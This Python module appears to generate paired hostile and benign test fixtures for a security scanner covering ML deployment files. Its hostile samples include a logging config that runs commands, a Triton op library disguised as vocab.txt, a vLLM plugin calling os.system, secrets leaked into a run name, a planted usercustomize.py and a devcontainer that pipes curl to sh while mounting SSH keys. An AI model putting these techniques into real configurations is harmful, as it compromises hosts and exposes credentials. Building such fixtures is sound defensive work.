"""Serving and training set-ups: logging, Triton, vLLM, Hydra, images and development containers."""
from __future__ import annotations

import gzip
import hashlib
import json

from thirteenth.binaries import library, safetensors, weights
from thirteenth.packages import tar

FAMILY = "deployments"


def oci(layer: dict) -> dict:
    raw = gzip.decompress(tar(layer))
    packed = gzip.compress(raw, mtime=0)
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin"], "Cmd": ["python3", "serve.py"]}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(raw)]}}).encode()
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                           "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + sha(config), "size": len(config)},
                           "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + sha(packed), "size": len(packed)}]}).encode()
    index = json.dumps({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + sha(manifest), "size": len(manifest)}]})
    files = {"oci-layout": '{"imageLayoutVersion":"1.0.0"}', "index.json": index}
    return {**files, **{"blobs/sha256/" + sha(b): b for b in (config, manifest, packed)}}


def add(out):
    def one(name, hostile, twin, why, prove=None, file=None):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    def log(handler, formatter):
        return json.dumps({"version": 1, "disable_existing_loggers": False, "formatters": {"default": formatter}, "handlers": {"default": handler}, "loggers": {"vllm": {"handlers": ["default"], "level": "INFO"}}}, indent=1)

    plain = {"class": "logging.StreamHandler", "formatter": "default", "stream": "ext://sys.stdout"}
    one("logging_formatter_factory", log(plain, {"()": "subprocess.getoutput", "cmd": "touch marker"}), log(plain, {"()": "logging.Formatter", "fmt": "%(levelname)s %(message)s"}),
        "The logging configuration of the server builds its formatter with subprocess.getoutput.", prove="x13.logging", file="log_config.json")

    triton = 'name: "classifier"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\ninput [ {{ name: "x" data_type: TYPE_FP32 dims: [ 12 ] }} ]\noutput [ {{ name: "scores" data_type: TYPE_FP32 dims: [ 10 ] }} ]\n{}\n'
    one("triton_operation_library", {"classifier/config.pbtxt": triton.format('model_operations { op_library_filename: "/models/classifier/1/assets/vocab.txt" }'), "classifier/1/assets/vocab.txt": library()},
        {"classifier/config.pbtxt": triton.format("dynamic_batching { max_queue_delay_microseconds: 100 }"), "classifier/1/assets/vocab.txt": "cat\ndog\n"},
        "Triton loads the file of op_library_filename as a shared library; it is called vocab.txt and acts as it is loaded.", prove="x13.triton")

    serve = "model: ./tiny\nserved-model-name: tiny\nmax-model-len: 512\n{}gpu-memory-utilization: 0.8\n"
    plugin = "import os\n\n\nclass Parser:\n    name = 'tiny'\n\n\n{}"
    one("server_plugin_from_the_model", {"vllm.yaml": serve.format("tool-parser-plugin: ./tiny/parser.py\nenable-auto-tool-choice: true\ntool-call-parser: tiny\n"), "tiny/parser.py": plugin.format("os.system('touch marker')\n")},
        {"vllm.yaml": serve.format("enable-auto-tool-choice: true\ntool-call-parser: hermes\n"), "tiny/README.md": "Tool calls are written as JSON between <tool_call> tags.\n"},
        "The serving configuration makes vLLM import a file of the model's folder that starts a shell.", prove="x13.vllm")

    def nemo(config):
        return tar({"./model_config.yaml": config, "./model_weights.safetensors": safetensors({"w": weights(4, 4)})}, "w:")

    yaml = "target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  features: 80\n{}"
    one("training_name_is_a_secret", nemo(yaml.format("exp_manager:\n  create_wandb_logger: true\n  wandb_logger_kwargs:\n    project: tiny\n    entity: acme-labs-77\n    name: run-${oc.env:AWS_SECRET_ACCESS_KEY}-${oc.env:HF_TOKEN}\n")),
        nemo(yaml.format("exp_manager:\n  create_wandb_logger: true\n  wandb_logger_kwargs:\n    project: tiny\n    name: run-${sample_rate}\ntrainer:\n  num_nodes: ${oc.env:SLURM_NNODES,1}\n")),
        "The run's public name is built from two secrets of the environment when the configuration is resolved. Not run: network.", file="asr.nemo")
    serve_py = "import http.server\n\nhttp.server.test(http.server.SimpleHTTPRequestHandler, port=8080)\n"
    one("layer_with_a_start_up_module", oci({"app/serve.py": serve_py, "usr/lib/python3/dist-packages/usercustomize.py": "import os\nos.system('touch marker')\n", "app/model.safetensors": safetensors({"w": weights(4, 4)})}),
        oci({"app/serve.py": serve_py, "usr/lib/python3/dist-packages/tiny/__init__.py": "__version__ = '1.2.0'\n", "app/model.safetensors": safetensors({"w": weights(4, 4)})}),
        "A layer of the image puts a module where every Python process imports it and it starts a shell. Not run.")
    dev = lambda **m: json.dumps({"name": "tiny", "image": "mcr.microsoft.com/devcontainers/python:3.12", **m}, indent=2)  # noqa: E731
    one("host_command_of_a_container", dev(initializeCommand="curl -fsS http://203.0.113.9/i | sh", mounts=["source=${localEnv:HOME}/.ssh,target=/keys,type=bind"]), dev(postCreateCommand="pip install -r requirements.txt", mounts=["source=tiny-cache,target=/cache,type=volume"]),
        "Opening the repository in a development container runs a fetched script on the host and mounts the keys. Not run: network.", file=".devcontainer/devcontainer.json")
